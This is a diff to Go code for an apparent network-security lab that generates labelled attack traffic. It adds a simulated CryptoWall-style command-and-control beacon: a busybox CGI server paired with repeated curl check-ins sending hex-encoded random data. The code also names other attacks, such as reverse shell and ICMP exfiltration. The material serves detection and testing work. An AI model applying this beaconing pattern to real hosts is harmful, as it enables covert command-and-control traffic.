@@ -21,7 +21,7 @@ import (
 )
 
 // Attack names accepted in Config.Attacks.
-var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell", "icmpexfil", "arpspoof", "telnetd"}
+var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell", "icmpexfil", "arpspoof", "telnetd", "hexc2"}
 
 // attack runs one labelled attack from the attacker host within ctx (its
 // time slot) and returns the command it ran, or a reason to skip it.
@@ -37,6 +37,7 @@ var attacks = map[string]attackFunc{
 	"icmpexfil": icmpExfilAttack,
 	"arpspoof":  arpspoofAttack,
 	"telnetd":   telnetdAttack,
+	"hexc2":     hexC2Attack,
 }
 
 func runTool(ctx context.Context, att *host, prog string, args ...string) (string, error) {
@@ -368,6 +369,86 @@ func arpspoofAttack(ctx context.Context, l *lab, att *host) (string, string, err
 	_ = cmd.Process.Signal(os.Interrupt) // re-ARP and exit; ctx's end kills it otherwise
 	<-done
 	return "arpspoof " + strings.Join(args, " "), "", nil
+}
+
+// hexC2Port is the attacker's HTTP port in hexC2Attack.
+const hexC2Port = 8080
+
+// hexC2Attack: command and control over plain HTTP with hex-encoded
+// ciphertext, as CryptoWall 4 and other families do. The attacker serves
+// a PHP-looking page with busybox's httpd, whose CGI script answers every
+// check-in with 600 random bytes written as hex digits. The victim (the
+// web server host, as after the reverse shell) checks in with curl every
+// 4-6 s: a POST of "o=" and 64 random bytes as hex, its body sent in a
+// segment of its own after the head ("Expect: 100-continue", which the
+// httpd does not answer; CryptoWall's WinINet client sends it the same
+// way), at most 1,000 times. Random bytes stand for the ciphertext; the
+// lab sends nothing of the machine it runs on.
+func hexC2Attack(ctx context.Context, l *lab, att *host) (string, string, error) {
+	busybox, err := lookPath("busybox")
+	if err != nil {
+		return "", "busybox not installed (apt-get install busybox-static)", nil
+	}
+	if out, _ := exec.CommandContext(ctx, busybox, "httpd", "--help").CombinedOutput(); bytes.Contains(out, []byte("applet not found")) {
+		return "", "busybox has no httpd applet (apt-get install busybox-static)", nil
+	}
+	curl, err := lookPath("curl")
+	if err != nil {
+		return "", "curl not installed (apt-get install curl)", nil
+	}
+	dir, err := os.MkdirTemp("", "vigil-lab-hexc2-")
+	if err != nil {
+		return "", "", err
+	}
+	defer os.RemoveAll(dir)
+	if err := os.MkdirAll(filepath.Join(dir, "cgi-bin"), 0o755); err != nil {
+		return "", "", err
+	}
+	script := fmt.Sprintf("#!%[1]s sh\n[ -n \"$CONTENT_LENGTH\" ] && %[1]s head -c \"$CONTENT_LENGTH\" > /dev/null\n"+
+		"printf 'Content-Type: text/html\\r\\n\\r\\n'\n%[1]s od -An -tx1 -N600 /dev/urandom | %[1]s tr -d ' \\n'\n", busybox)
+	if err := os.WriteFile(filepath.Join(dir, "cgi-bin", "76N1Lm.php"), []byte(script), 0o755); err != nil {
+		return "", "", err
+	}
+	listen := netip.AddrPortFrom(att.addr, hexC2Port)
+	srv := att.ns.command(ctx, busybox, "httpd", "-f", "-p", listen.String(), "-h", dir)
+	if err := srv.Start(); err != nil {
+		return "", "", fmt.Errorf("start httpd: %w", err)
+	}
+	defer func() { _ = srv.Process.Kill(); _ = srv.Wait() }()
+	for i := 0; i < 50; i++ { // until the httpd listens (at most 5 s; the attacker's own loopback, off the bridge)
+		c, err := att.ns.dial(ctx, "tcp", listen.String())
+		if err == nil {
+			_ = c.Close()
+			break
+		}
+		if !sleep(ctx, 100*time.Millisecond) {
+			break
+		}
+	}
+	victim := l.hosts[0]
+	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0xc2))
+	key := make([]byte, 64)
+	sent := 0
+	for i := 0; i < 1000 && ctx.Err() == nil; i++ {
+		for j := range key {
+			key[j] = byte(rng.Uint32())
+		}
+		url := fmt.Sprintf("http://%s/cgi-bin/76N1Lm.php?n=%x", listen, rng.Uint64())
+		out, err := victim.ns.command(ctx, curl, "-s", "-o", "/dev/null", "-m", "5", "-A", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
+			"-H", "Expect: 100-continue", "--expect100-timeout", "0.2", "--data", "o="+hex.EncodeToString(key), url).CombinedOutput()
+		if ctx.Err() != nil {
+			break // the slot ended
+		}
+		if err != nil {
+			return "", "", fmt.Errorf("curl: %w: %s", err, lastLine(string(out)))
+		}
+		sent++
+		if !sleep(ctx, time.Duration(4000+rng.IntN(2000))*time.Millisecond) {
+			break
+		}
+	}
+	return fmt.Sprintf("attacker: busybox httpd -f -p %s (CGI: 600 random bytes as hex); victim %s: curl --data o=HEX(64 random bytes) every 4-6 s, %d check-ins",
+		listen, victim.addr, sent), "", nil
 }
 
 // runAttacks runs the requested attacks one after another, each in its own
